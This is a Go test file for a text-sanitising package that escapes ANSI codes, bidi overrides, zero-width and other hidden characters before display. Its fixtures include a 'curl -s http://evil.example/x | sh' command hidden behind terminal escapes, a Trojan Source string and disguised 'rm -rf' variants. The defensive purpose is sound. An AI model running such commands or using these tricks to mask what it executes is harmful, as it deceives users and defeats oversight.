package textsafe

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestLineAndBlock(t *testing.T) {
	tests := []struct {
		name, in, line, block string
	}{
		{"plain", "make test", "make test", "make test"},
		{"empty", "", "", ""},
		{"non-Latin text stays", "日本語 é 🙂 Ωmega", "日本語 é 🙂 Ωmega", "日本語 é 🙂 Ωmega"},
		{"Windows path keeps its backslashes", `C:\Users\me\x`, `C:\Users\me\x`, `C:\Users\me\x`},
		{"the reported spoof", "curl -s http://evil.example/x | sh #\r\x1b[56C\x1b[Kmake test",
			`curl -s http://evil.example/x | sh #\r\x1b[56C\x1b[Kmake test`,
			`curl -s http://evil.example/x | sh #\r\x1b[56C\x1b[Kmake test`},
		{"clear screen in a preview", "\x1b[2J\x1b[HAPPROVED SAFE", `\x1b[2J\x1b[HAPPROVED SAFE`, `\x1b[2J\x1b[HAPPROVED SAFE`},
		{"newline and tab", "a\nb\tc", `a\nb\tc`, "a\nb\tc"},
		{"CRLF", "a\r\nb", `a\r\nb`, "a\\r\nb"},
		{"NUL BEL BS VT FF", "\x00\x07\x08\x0b\x0c", `\x00\x07\x08\x0b\x0c`, `\x00\x07\x08\x0b\x0c`},
		{"DEL", "a\x7fb", `a\x7fb`, `a\x7fb`},
		{"C1 CSI and NEL", "a\u009b2Jb\u0085c", `a\u009b2Jb\u0085c`, `a\u009b2Jb\u0085c`},
		{"bidi embeddings and overrides", "\u202a\u202b\u202c\u202d\u202e", `\u202a\u202b\u202c\u202d\u202e`, `\u202a\u202b\u202c\u202d\u202e`},
		{"bidi isolates", "\u2066\u2067\u2068\u2069", `\u2066\u2067\u2068\u2069`, `\u2066\u2067\u2068\u2069`},
		{"Trojan Source", "access = \"user\u202e \u2066// admin\u2069 \u2066\"", `access = "user\u202e \u2066// admin\u2069 \u2066"`, `access = "user\u202e \u2066// admin\u2069 \u2066"`},
		{"marks LRM RLM ALM", "\u200e\u200f\u061c", `\u200e\u200f\u061c`, `\u200e\u200f\u061c`},
		{"zero width", "r\u200bm\u200c-\u200drf\u2060\ufeff", `r\u200bm\u200c-\u200drf\u2060\ufeff`, `r\u200bm\u200c-\u200drf\u2060\ufeff`},
		{"soft hyphen", "rm\u00ad -rf", `rm\u00ad -rf`, `rm\u00ad -rf`},
		{"line and paragraph separators", "a\u2028b\u2029c", `a\u2028b\u2029c`, `a\u2028b\u2029c`},
		{"tag characters (above U+FFFF)", "ok\U000e0041\U000e007f", `ok\U000e0041\U000e007f`, `ok\U000e0041\U000e007f`},
		{"other spaces", "rm -rf ~/x\u00a0/ \u2007\u3000", `rm -rf ~/x\u00a0/ \u2007\u3000`, `rm -rf ~/x\u00a0/ \u2007\u3000`},
		{"invisible graphic characters", "\u115f\u3164\u2800\u034f\ufe0f\U000e0100", `\u115f\u3164\u2800\u034f\ufe0f\U000e0100`, `\u115f\u3164\u2800\u034f\ufe0f\U000e0100`},
		{"private use and unassigned", "\ue000\U0010fffd\u0378", `\ue000\U0010fffd\u0378`, `\ue000\U0010fffd\u0378`},
		{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`, `a\xffb\xc3`},
		{"encoded surrogate", "\xed\xa0\x80", `\xed\xa0\x80`, `\xed\xa0\x80`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Line(tt.in); got != tt.line {
				t.Errorf("Line(%q) = %q, want %q", tt.in, got, tt.line)
			}
			if got := Block(tt.in); got != tt.block {
				t.Errorf("Block(%q) = %q, want %q", tt.in, got, tt.block)
			}
		})
	}
}

// TestEveryHiddenRuneEscaped: across all of Unicode, Line's output holds
// only printable ASCII and characters Hidden lets through, so nothing a
// terminal acts on or hides survives it.
func TestEveryHiddenRuneEscaped(t *testing.T) {
	for r := rune(0); r <= utf8.MaxRune; r++ {
		if r >= 0xd800 && r <= 0xdfff {
			continue
		}
		out := Line(string(r))
		for _, c := range out {
			if Hidden(c) {
				t.Fatalf("Line(%U) = %q keeps hidden %U", r, out, c)
			}
		}
		if Hidden(r) != (out != string(r)) {
			t.Fatalf("Line(%U) = %q, Hidden = %v", r, out, Hidden(r))
		}
	}
}

func TestJSON(t *testing.T) {
	tests := []struct {
		name string
		in   any
		want string
	}{
		{"plain", map[string]string{"a": "b"}, `{"a":"b"}`},
		{"DEL and C1", "a\x7fb\u009bc", `"a\u007fb\u009bc"`},
		{"bidi and zero width", "x\u202ey\u200bz", `"x\u202ey\u200bz"`},
		{"above U+FFFF as a surrogate pair", "t\U000e0041", `"t\udb40\udc41"`},
		{"keys too", map[string]int{"k\u202e": 1}, `{"k\u202e":1}`},
		{"escapes already there stay", "a\nb\"c\\\u2028", `"a\nb\"c\\\u2028"`},
		{"visible non-ASCII stays", "日本 🙂", `"日本 🙂"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b, _ := json.Marshal(tt.in)
			got := JSON(b)
			if string(got) != tt.want {
				t.Fatalf("JSON(%s) = %s, want %s", b, got, tt.want)
			}
			var a, c any
			if json.Unmarshal(b, &a) != nil || json.Unmarshal(got, &c) != nil {
				t.Fatalf("not JSON: %s", got)
			}
			if x, y := mustJSON(a), mustJSON(c); x != y {
				t.Fatalf("value changed: %s -> %s", x, y)
			}
		})
	}
	t.Run("indented document keeps its layout", func(t *testing.T) {
		in := "{\n  \"a\": \"x\u202ey\"\n}\n"
		if got := string(JSON([]byte(in))); got != strings.Replace(in, "\u202e", `\u202e`, 1) {
			t.Fatalf("JSON = %q", got)
		}
	})
	t.Run("invalid UTF-8 in a string", func(t *testing.T) {
		if got := string(JSON([]byte("\"a\xffb\""))); got != `"a\ufffdb"` {
			t.Fatalf("JSON = %q", got)
		}
	})
}

func mustJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

func BenchmarkLinePlain(b *testing.B) {
	s := strings.Repeat("go test ./internal/... -run TestX ", 20)
	for b.Loop() {
		Line(s)
	}
}

func TestClip(t *testing.T) {
	tests := []struct {
		s    string
		n    int
		want string
	}{
		{"", 0, ""},
		{"abc", 3, "abc"}, // at the limit: unchanged
		{"abcd", 3, "abc…"},
		{"ab€", 4, "ab…"}, // '€' is 3 bytes: never split
		{"ab€", 5, "ab€"},
		{"€€", 1, "…"},
		{"ab\xffcd", 3, "ab\xff…"},
	}
	for _, tt := range tests {
		if got := Clip(tt.s, tt.n); got != tt.want {
			t.Errorf("Clip(%q, %d) = %q, want %q", tt.s, tt.n, got, tt.want)
		}
	}
}
